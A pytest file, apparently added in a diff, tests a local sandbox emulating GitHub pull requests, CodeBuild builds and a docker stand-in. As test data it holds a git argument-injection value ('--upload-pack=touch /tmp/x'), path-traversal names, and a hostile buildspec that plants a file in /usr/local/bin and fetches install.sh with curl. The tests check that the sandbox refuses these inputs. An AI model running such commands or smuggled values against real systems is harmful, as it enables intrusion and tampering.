@@ -1,0 +1,300 @@
+"""The first pull request: the sandbox's GitHub, webhook filters, the docker stand-in, and real builds.
+
+The fast tests use real git and the stand-ins' own rules; the sandbox tests restore the
+run's applied snapshot and let CodeBuild run the rendered image buildspec for real.
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from runbook_lib.errors import SandboxError
+from runbook_lib.sandbox import docker_standin, github
+from runbook_lib.sandbox.emulated.codebuild.builds import matches
+
+from .conftest import ROOT, needs_terraform, restore_golden
+from .tiers import missing
+
+OPS = "111111111111"
+# The filter group thoughtbot's codebuild-project module gives the image project's webhook.
+PULL_REQUESTS = [[{"type": "EVENT", "pattern": "PULL_REQUEST_CREATED,PULL_REQUEST_UPDATED"}]]
+
+
+def _pr(event: str = "PULL_REQUEST_CREATED", head: str = "refs/heads/feature") -> dict:
+    return {"kind": "pull_request", "repository": "acme-co/web", "event": event, "number": 1, "head_ref": head,
+            "base_ref": "refs/heads/main", "head_sha": "0" * 40}
+
+
+def test_a_pull_request_passes_the_image_webhook_and_a_push_or_a_close_does_not():
+    assert matches(PULL_REQUESTS, _pr())
+    assert matches(PULL_REQUESTS, _pr("PULL_REQUEST_UPDATED"))
+    assert not matches(PULL_REQUESTS, _pr("PULL_REQUEST_CLOSED"))
+    assert not matches(PULL_REQUESTS, {"kind": "push", "event": "PUSH", "ref": "refs/heads/main"})
+    assert not matches([], _pr())
+
+
+def test_head_ref_filters_are_regular_expressions_and_can_exclude():
+    only_release = [[{"type": "EVENT", "pattern": "PULL_REQUEST_CREATED"},
+                     {"type": "HEAD_REF", "pattern": "^refs/heads/release/.*"}]]
+    assert matches(only_release, _pr(head="refs/heads/release/1.2"))
+    assert not matches(only_release, _pr(head="refs/heads/feature"))   # filtered out: no build
+    not_docs = [[{"type": "EVENT", "pattern": "PULL_REQUEST_CREATED"},
+                 {"type": "HEAD_REF", "pattern": "^refs/heads/docs/", "excludeMatchedPattern": True}]]
+    assert matches(not_docs, _pr(head="refs/heads/feature"))
+    assert not matches(not_docs, _pr(head="refs/heads/docs/readme"))
+
+
+def test_a_pull_request_is_a_branch_with_a_commit_and_pr_n_resolves_to_it(tmp_path):
+    first = github.create(tmp_path, "acme-co/web", {"Dockerfile": "FROM scratch\n"})
+    event = github.open_pull_request(tmp_path, "acme-co/web", "feature/a", {"codebuild/x.yml": "version: 0.2\n"}, "x")
+    assert event.number == 1 and event.head_ref == "refs/heads/feature/a" and event.base_ref == "refs/heads/main"
+    assert github.resolve(tmp_path, "acme-co/web", "pr/1") == event.head_sha != first
+    assert github.resolve(tmp_path, "acme-co/web", "main") == first
+    assert github.resolve(tmp_path, "acme-co/web", "pr/7") is None
+    assert github.resolve(tmp_path, "acme-co/web", "--upload-pack=touch /tmp/x") is None
+    second = github.open_pull_request(tmp_path, "acme-co/web", "feature/b", {"b": "b"}, "b")
+    assert second.number == 2
+    push = github.merge_pull_request(tmp_path, "acme-co/web", 1)
+    assert push.ref == "refs/heads/main" and github.resolve(tmp_path, "acme-co/web", "main") == push.head_sha
+    checkout = tmp_path / "checkout"
+    github.checkout(tmp_path, "acme-co/web", push.head_sha, checkout)
+    assert (checkout / "codebuild" / "x.yml").read_text() == "version: 0.2\n"
+    with pytest.raises(SandboxError, match="no open pull request #1"):
+        github.merge_pull_request(tmp_path, "acme-co/web", 1)
+
+
+@pytest.mark.parametrize("name", ["../escape", "acme-co/../../x", "acme-co", "/etc/passwd", "a/b/c"])
+def test_a_repository_name_that_is_not_owner_slash_name_is_refused(tmp_path, name):
+    with pytest.raises(SandboxError, match="expected owner/name"):
+        github.repository_path(tmp_path, name)
+    assert not any(tmp_path.iterdir())
+
+
+def test_a_file_outside_the_repository_is_refused_and_nothing_is_written(tmp_path):
+    github.create(tmp_path, "acme-co/web", {"a": "a"})
+    before = github.resolve(tmp_path, "acme-co/web", "main")
+    with pytest.raises(SandboxError, match="lies outside repository"):
+        github.open_pull_request(tmp_path, "acme-co/web", "evil", {"../../../outside": "x"}, "x")
+    assert not (tmp_path / "outside").exists() and not (tmp_path.parent / "outside").exists()
+    assert github.resolve(tmp_path, "acme-co/web", "main") == before
+    with pytest.raises(SandboxError, match="branch"):
+        github.open_pull_request(tmp_path, "acme-co/web", "-delete", {"a": "b"}, "x")
+
+
+def test_the_docker_stand_in_refuses_a_missing_dockerfile_and_a_push_without_login(tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.chdir(tmp_path)
+    image = f"{OPS}.dkr.ecr.us-east-1.amazonaws.com/acme/web:abc"
+    assert docker_standin.main(["build", "--tag", image, "."]) == 1
+    assert "failed to read dockerfile" in capsys.readouterr().err
+    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
+    assert docker_standin.main(["build", "--tag", image, "."]) == 0
+    out = capsys.readouterr().out
+    assert out.startswith(docker_standin.LABEL) and "nothing built" in out
+    assert docker_standin.main(["push", image]) == 1
+    assert "run docker login first" in capsys.readouterr().err
+    assert docker_standin.main(["login", "--username", "AWS", "--password", "x", "registry.example.com"]) == 1
+    assert "is not an ECR registry" in capsys.readouterr().err
+
+
+# -- real builds in the sandbox -----------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def applied(tmp_path_factory, golden):
+    """A sandbox holding the applied example apps, with its builds' minute shortened (for the time-limit test)."""
+    import os
+    import shutil
+
+    from runbook_lib.sandbox import build_tools, server
+
+    if shutil.which("bwrap") is None:
+        missing("bubblewrap (bwrap), which sandbox builds run in")
+    if build_tools.tools_folder() is None:
+        missing(f"the sandbox's pinned build tools ({build_tools.TOOLS_ENV}; make tools)")
+
+    directory = tmp_path_factory.mktemp("builds-sandbox")
+    previous = os.environ.get("RUNBOOK_SANDBOX_BUILD_MINUTE")
+    os.environ["RUNBOOK_SANDBOX_BUILD_MINUTE"] = "0.5"   # a 5-minute limit ends after 2.5 s
+    try:
+        running = restore_golden(golden, "applied", directory)
+    finally:
+        if previous is None:
+            os.environ.pop("RUNBOOK_SANDBOX_BUILD_MINUTE")
+        else:
+            os.environ["RUNBOOK_SANDBOX_BUILD_MINUTE"] = previous
+    yield running, directory
+    server.stop(directory)
+
+
+def _clients(url: str):
+    from runbook_lib.sandbox.clients import SandboxSessions
+
+    sessions = SandboxSessions(url, "us-east-1", "terraform-execution")
+    return sessions.client("codebuild", OPS), sessions.client("logs", OPS), sessions.client("ecr", OPS)
+
+
+def _wait(codebuild, build_id: str, limit: float = 120) -> dict:
+    deadline = time.monotonic() + limit
+    while True:
+        build = codebuild.batch_get_builds(ids=[build_id])["builds"][0]
+        if build["buildComplete"] or time.monotonic() > deadline:
+            return build
+        time.sleep(0.5)
+
+
+@needs_terraform()
+@pytest.mark.sandbox
+def test_the_first_pull_request_builds_and_pushes_the_image_tagged_with_its_commit(applied, tmp_path):
+    running, directory = applied
+    env = {**__import__("os").environ, "RUNBOOK_SANDBOX_DIR": str(directory)}
+    done = subprocess.run([sys.executable, "-m", "runbook_lib.cli", "pipeline", "pull-request",
+                           "--app", "parameters/apps/web.yaml", "--out", str(tmp_path / "out"), "--limit", "120"],
+                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    assert "opened pull request #1 in acme-co/web" in done.stdout
+    assert "[sandbox stand-in: docker] Login Succeeded" in done.stdout
+    [line] = [line for line in done.stdout.splitlines() if line.startswith("build acme-web-image:")]
+    assert ": SUCCEEDED, source pr/1 at " in line
+    head = github.resolve(directory, "acme-co/web", "pr/1")
+    codebuild, logs, ecr = _clients(running.url)
+    build = codebuild.batch_get_builds(ids=[line.split()[1].rstrip(":")])["builds"][0]
+    assert build["resolvedSourceVersion"] == head
+    assert [p["phaseType"] for p in build["phases"]][-3:] == ["UPLOAD_ARTIFACTS", "FINALIZING", "COMPLETED"]
+    assert all(p.get("phaseStatus") == "SUCCEEDED" for p in build["phases"][:-1])
+    tags = [tag for image in ecr.describe_images(repositoryName="acme/web")["imageDetails"]
+            for tag in image.get("imageTags", [])]
+    assert head in tags
+    events = logs.get_log_events(logGroupName="/aws/codebuild/acme-web-image",
+                                 logStreamName=build["logs"]["streamName"])["events"]
+    assert any(f"pushed {OPS}.dkr.ecr.us-east-1.amazonaws.com/acme/web:{head}" in e["message"] for e in events)
+
+
+def _event(url: str, event) -> list[str]:
+    import urllib.request
+
+    request = urllib.request.Request(url + "/runbook-sandbox/github/event", data=json.dumps(event.as_json()).encode(),
+                                     method="POST")
+    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=60) as answer:
+        return json.loads(answer.read())["builds"]
+
+
+def _seeded(directory: Path) -> None:
+    if not github.exists(directory, "acme-co/web"):
+        github.create(directory, "acme-co/web", {"Dockerfile": "FROM scratch\n"})
+
+
+@needs_terraform()
+@pytest.mark.sandbox
+@pytest.mark.parametrize("buildspec, phase, code, words", [
+    ("phases: [unclosed", "DOWNLOAD_SOURCE", "YAML_FILE_ERROR", "is not valid YAML"),
+    ("version: 0.1\nphases: {}\n", "DOWNLOAD_SOURCE", "YAML_FILE_ERROR", "version '0.1' is not supported"),
+    ("version: 0.2\nphases:\n  pre_build:\n    commands: [\"false\"]\n  build:\n    commands: [\"echo never\"]\n",
+     "PRE_BUILD", "COMMAND_EXECUTION_ERROR", "Error while executing command: false. Reason: exit status 1"),
+], ids=["not-yaml", "version-0.1", "pre-build-fails"])
+def test_a_broken_buildspec_fails_in_the_phase_aws_fails_it(applied, buildspec, phase, code, words):
+    running, directory = applied
+    _seeded(directory)
+    event = github.open_pull_request(directory, "acme-co/web", f"broken-{phase.lower()}-{code.lower()}-{time.time_ns()}",
+                                     {"codebuild/image-build.yml": buildspec}, "broken")
+    [build_id] = _event(running.url, event)
+    codebuild, logs, _ecr = _clients(running.url)
+    build = _wait(codebuild, build_id)
+    assert build["buildStatus"] == "FAILED"
+    [failed] = [p for p in build["phases"] if p.get("phaseStatus") not in (None, "SUCCEEDED")]
+    assert failed["phaseType"] == phase and failed["contexts"][0]["statusCode"] == code
+    assert words in failed["contexts"][0]["message"]
+    types = [p["phaseType"] for p in build["phases"]]
+    assert "BUILD" not in types[types.index(phase) + 1:]   # nothing after a failed early phase but FINALIZING
+    messages = [e["message"] for e in logs.get_log_events(logGroupName="/aws/codebuild/acme-web-image",
+                                                           logStreamName=build["logs"]["streamName"])["events"]]
+    assert "never" not in "\n".join(messages)
+
+
+@needs_terraform()
+@pytest.mark.sandbox
+def test_a_command_that_hangs_ends_timed_out_and_a_filtered_event_starts_nothing(applied):
+    running, directory = applied
+    _seeded(directory)
+    codebuild, _logs, _ecr = _clients(running.url)
+    event = github.open_pull_request(directory, "acme-co/web", f"hang-{time.time_ns()}", {
+        "codebuild/image-build.yml": "version: 0.2\nphases:\n  build:\n    commands: [\"sleep 600\"]\n"}, "hang")
+    started = codebuild.start_build(projectName="acme-web-image", sourceVersion=f"pr/{event.number}",
+                                    timeoutInMinutesOverride=5)["build"]
+    build = _wait(codebuild, started["id"])
+    assert build["buildStatus"] == "TIMED_OUT"
+    assert [p for p in build["phases"] if p["phaseType"] == "BUILD"][0]["phaseStatus"] == "TIMED_OUT"
+    closed = github.PullRequestEvent("acme-co/web", "PULL_REQUEST_CLOSED", event.number, event.head_ref,
+                                     event.base_ref, event.head_sha)
+    assert _event(running.url, closed) == []
+    from botocore.exceptions import ClientError
+
+    with pytest.raises(ClientError, match="between 5 and 2160"):
+        codebuild.start_build(projectName="acme-web-image", timeoutInMinutesOverride=1)
+
+
+def _cli(directory: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
+    import os
+
+    env = {**os.environ, "RUNBOOK_SANDBOX_DIR": str(directory)}
+    return subprocess.run([sys.executable, "-m", "runbook_lib.cli", "pipeline", *args, "--app", "parameters/apps/web.yaml",
+                           "--out", str(tmp_path / "out"), "--limit", "180"],
+                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=400)
+
+
+@needs_terraform()
+@pytest.mark.sandbox
+def test_a_merge_runs_the_staging_pipeline_through_deploy_with_a_not_emulated_apply(applied, tmp_path):
+    """Source, the image and manifests builds, and the deploy build, each real; the apply itself is NOT_EMULATED."""
+    running, directory = applied
+    done = _cli(directory, tmp_path, "merge")
+    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-3000:]
+    for action in ("Source.Source", "Source.Manifests", "Build.Docker", "Build.Manifests", "Deploy.acme-staging"):
+        assert f"[acme-web-staging] {action}: Succeeded" in done.stdout, done.stdout[-3000:]
+    assert "pipeline acme-web-staging execution" in done.stdout and done.stdout.rstrip().endswith("Succeeded")
+    from runbook_lib.sandbox.clients import SandboxSessions
+
+    sessions = SandboxSessions(running.url, "us-east-1", "terraform-execution")
+    codepipeline, codebuild = sessions.client("codepipeline", OPS), sessions.client("codebuild", OPS)
+    state = codepipeline.get_pipeline_state(name="acme-web-staging")
+    assert [s["latestExecution"]["status"] for s in state["stageStates"]] == ["Succeeded"] * 3
+    head = github.resolve(directory, "acme-co/web", "refs/heads/main")
+    [deploy] = [a for a in codepipeline.list_action_executions(pipelineName="acme-web-staging")["actionExecutionDetails"]
+                if a["actionName"] == "acme-staging"][:1]
+    build = codebuild.batch_get_builds(ids=[deploy["output"]["executionResult"]["externalExecutionId"]])["builds"][0]
+    log = (directory / "builds" / build["logs"]["streamName"] / "build.log").read_text()
+    assert "[sandbox stand-in: curl] served the SHA-256 of the kubectl it serves" in log
+    assert f"images: {OPS}.dkr.ecr.us-east-1.amazonaws.com/acme/web:{head}" in log   # the image just built
+    assert "NOT_EMULATED: applied to the cluster of context arn:aws:eks:us-east-1:222222222222:cluster/acme-staging" in log
+    assert "PASS" not in log
+
+
+@needs_terraform()
+@pytest.mark.sandbox
+def test_a_build_reaches_no_network_and_writes_nothing_outside_its_folder(applied, tmp_path):
+    """Hostile buildspec: it reaches for the network and writes to the machine; refused, and the build fails."""
+    running, directory = applied
+    _seeded(directory)
+    outside = Path(ROOT) / f"written-by-a-build-{time.time_ns()}"   # the checkout: a real folder of the machine
+    event = github.open_pull_request(directory, "acme-co/web", f"escape-{time.time_ns()}", {
+        "codebuild/image-build.yml": (
+            "version: 0.2\nphases:\n  install:\n    commands:\n"
+            "      - echo hidden > /usr/local/bin/planted\n"
+            f"      - echo x > {outside} || echo 'write refused'\n"
+            "      - curl -fsSL -o install.sh https://example.com/install.sh\n")}, "escape")
+    [build_id] = _event(running.url, event)
+    codebuild, _logs, _ecr = _clients(running.url)
+    build = _wait(codebuild, build_id)
+    assert build["buildStatus"] == "FAILED"
+    log = (directory / "builds" / build["logs"]["streamName"] / "build.log").read_text()
+    assert "write refused" in log and "the sandbox reaches no network: https://example.com/install.sh refused" in log
+    created = outside.exists()
+    outside.unlink(missing_ok=True)
+    assert not created and not Path("/usr/local/bin/planted").exists()
+    assert "Error while executing command: curl -fsSL -o install.sh https://example.com/install.sh. Reason: exit status 6" in log
